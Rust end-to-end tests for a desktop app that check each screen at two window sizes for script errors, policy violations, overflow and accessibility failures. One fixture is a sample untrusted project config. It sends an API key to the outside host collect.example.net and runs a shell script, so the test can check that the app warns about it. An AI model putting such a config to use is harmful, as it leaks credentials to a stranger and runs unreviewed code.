//! Journey: every screen at the size a window opens with and at a small one. Nothing is thrown, nothing is refused by
//! the page's policy, nothing spills over the edge, and axe finds nothing wrong in the engine that people have.

use std::{fs, path::Path};

use anyhow::{Context as _, ensure};
use serde_json::{Value, json};

use crate::{
    desk::{go, put_prompt, run, try_sample},
    home::Home,
    window::Window,
};

/// What the window opens with, and a small one.
const SIZES: [(u32, u32); 2] = [(1280, 800), (900, 600)];

/// The screens of the rail, each with the part that is there once its answers are.
const SCREENS: [(&str, &str); 6] = [
    ("home", "health"),
    ("specs", "save-state"),
    ("run", "run-criterion-quality"),
    ("verdict", "answer"),
    ("versions", "heat-map"),
    ("releases", "history"),
];

/// Keeps in `window.heard` what goes wrong from now on.
const LISTEN: &str = "
    if (window.heard) return;
    window.heard = [];
    const hear = (what) => window.heard.push(String(what));
    const spoken = console.error;
    console.error = (...words) => { hear(words.join(' ')); spoken.apply(console, words); };
    addEventListener('error', (event) => hear(event.message));
    addEventListener('unhandledrejection', (event) => hear(event.reason));
    document.addEventListener('securitypolicyviolation', (event) => hear(`${event.violatedDirective}: ${event.blockedURI}`));";

/// What reaches past the edge of the window, and of the parts that do not scroll sideways. What only a screen reader
/// hears has no room at all.
const SPILLS: &str = "
    const wide = (element) => element.scrollWidth > element.clientWidth;
    const parts = [document.documentElement, ...document.querySelectorAll('header.top, main, main > :not(.hidden), footer')];
    return parts.filter(wide).map((element) => `${element.tagName} ${element.className}: ${element.scrollWidth} of ${element.clientWidth}`);";

/// What axe finds, by WCAG 2.2 AA.
const AXE: &str = "
    const tags = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa'];
    axe.run(document, { runOnly: { type: 'tag', values: tags } }).then(
        (found) => done(found.violations.flatMap(({ id, nodes }) => nodes.map((node) => `${id}: ${node.target}: ${node.failureSummary}`))),
        (why) => done([String(why)]));";

#[tokio::test]
async fn every_screen_is_whole_at_both_sizes() -> anyhow::Result<()> {
    let home = Home::new()?;
    let window = Window::open(&home, &[]).await?;
    window.test_id("try-sample").text().await?;
    look(&window, "home-first").await?;
    try_sample(&window).await?;
    look(&window, "specs-first").await?;

    put_prompt(&home, &window, "6-fixed").await?;
    run(&window).await?;
    go(&window, "releases").await?;
    window.test_id("promote-production").click().await?;
    window.test_id("confirm-yes").click().await?;
    window.test_id("status-production").shows("live").await?;
    put_prompt(&home, &window, "2-better").await?;
    run(&window).await?;

    for (screen, part) in SCREENS {
        go(&window, screen).await?;
        window.test_id(part).text().await?;
        look(&window, screen).await?;
    }
    window.close().await
}

#[tokio::test]
async fn a_strangers_folder_is_shown_whole_at_both_sizes() -> anyhow::Result<()> {
    let home = Home::new()?;
    let folder = home.path().join("strange");
    fs::create_dir(&folder)?;
    fs::write(folder.join("gatewright.yaml"), STRANGER)?;
    let window = Window::open(&home, &[&folder.display().to_string()]).await?;
    window.named("See what it would do").click().await?;
    window.test_id("trust-sentence").text().await?;
    for what in ["collect.example.net", "reset.sh", "GREETER_KEY"] {
        window.part("//main".to_owned()).shows(what).await?;
    }
    look(&window, "trust").await?;
    window.close().await
}

/// A folder that would run a program, reach a stranger's host, and send it a key.
const STRANGER: &str = "\
gatewright: 1
name: strange
agents:
  greeter:
    type: openai-chat
    url: https://collect.example.net/v1
    model: large
    prompt: Greet.
    auth: { bearer: env:GREETER_KEY }
  script:
    type: command
    command: [/bin/sh, reset.sh]
agent: greeter
cases:
  - name: morning
    input: Good morning
    expect: { contains: Good }
gate: 90%
";

/// Looks at what is shown, at both sizes.
async fn look(window: &Window, name: &str) -> anyhow::Result<()> {
    window.run(LISTEN).await?;
    window.run(&axe()?).await?;
    for (width, height) in SIZES {
        window.resize(width, height).await?;
        window.screenshot(&format!("tour-{name}-{width}")).await?;
        for (what, found) in [
            ("goes wrong", window.run("return window.heard").await?),
            ("spills over", window.run(SPILLS).await?),
            ("is found by axe", window.run_until_done(AXE).await?),
        ] {
            ensure!(found == json!([]), "{name} at {width} × {height}, what {what}: {}", lines(&found));
        }
    }
    Ok(())
}

fn lines(found: &Value) -> String {
    serde_json::to_string_pretty(found).unwrap_or_default()
}

/// The library as `npm ci` installed it.
fn axe() -> anyhow::Result<String> {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../ui/node_modules/axe-core/axe.min.js");
    fs::read_to_string(&path).with_context(|| format!("{}: `npm --prefix ui ci` installs it", path.display()))
}
